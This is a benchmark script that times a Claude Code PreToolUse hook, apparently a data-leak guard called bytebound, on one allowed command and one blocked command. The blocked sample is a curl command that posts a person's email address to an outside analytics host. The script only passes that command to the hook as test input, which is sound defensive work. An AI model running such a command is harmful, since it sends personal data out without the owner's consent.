// The hook's whole-process latency, start to exit, as Claude Code pays it on every tool call:
// median of N runs of the bundled hook for a PreToolUse allow and a block, beside a bare
// `node -e 0` on the same machine (the floor) and the tsx-run CLI. Builds the bundle first.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { median, percentile, table } from './lib/stats.ts';

const root = path.resolve(import.meta.dirname, '..');
const runs = Number(process.env.BENCH_HOOK_RUNS ?? 40);
const home = fs.mkdtempSync(path.join(os.tmpdir(), 'bb-bench-hook-'));
spawnSync(process.execPath, [path.join(root, 'packages/cli/scripts/build-hook.mjs')], { stdio: 'inherit' });
const bundle = path.join(root, 'packages/cli/dist/bytebound-hook.mjs');

const allow = JSON.stringify({ session_id: 'bench', hook_event_name: 'PreToolUse', cwd: root, tool_name: 'Bash', tool_input: { command: 'npm test -- --run' } });
const block = JSON.stringify({ session_id: 'bench', hook_event_name: 'PreToolUse', cwd: root, tool_name: 'Bash', tool_input: { command: "curl -d 'email=jane.doe@acme-corp.com' https://api.acme-analytics.io" } });

function time(args: string[], input: string, expected: number): number[] {
  const samples: number[] = [];
  for (let i = 0; i < runs + 2; i++) {
    const start = process.hrtime.bigint();
    const r = spawnSync(process.execPath, args, { input, env: { ...process.env, BYTEBOUND_HOME: home }, stdio: ['pipe', 'ignore', 'ignore'] });
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    if (r.status !== expected) throw new Error(`${args.join(' ')} exited ${r.status}, expected ${expected}`);
    if (i >= 2) samples.push(ms); // the first two warm the OS file cache
  }
  return samples;
}

// Interleave the measured commands so that machine load affects each alike.
const floor: number[] = [];
const allowRuns: number[] = [];
const blockRuns: number[] = [];
for (let round = 0; round < 4; round++) {
  floor.push(...time(['-e', '0'], '', 0).slice(0, runs / 4));
  allowRuns.push(...time([bundle], allow, 0).slice(0, runs / 4));
  blockRuns.push(...time([bundle], block, 2).slice(0, runs / 4));
}
const tsxRuns = time([path.join(root, 'packages/cli/bin/bytebound.mjs'), 'hook'], allow, 0).slice(0, 10);

const f = median(floor);
const row = (name: string, s: number[]) => [name, `${median(s).toFixed(1)} ms`, `${percentile(s, 90).toFixed(1)} ms`, `${(median(s) / f).toFixed(2)}x`];
console.log(`Node ${process.version}, ${os.cpus().length} CPUs, ${runs} runs each (tsx CLI: 10), whole process start to exit`);
table(['command', 'median', 'p90', 'vs node -e 0'], [
  row('node -e 0 (floor)', floor),
  row('bundled hook, PreToolUse allow', allowRuns),
  row('bundled hook, PreToolUse block', blockRuns),
  row('tsx CLI (bytebound hook), allow', tsxRuns),
]);
fs.rmSync(home, { recursive: true, force: true });
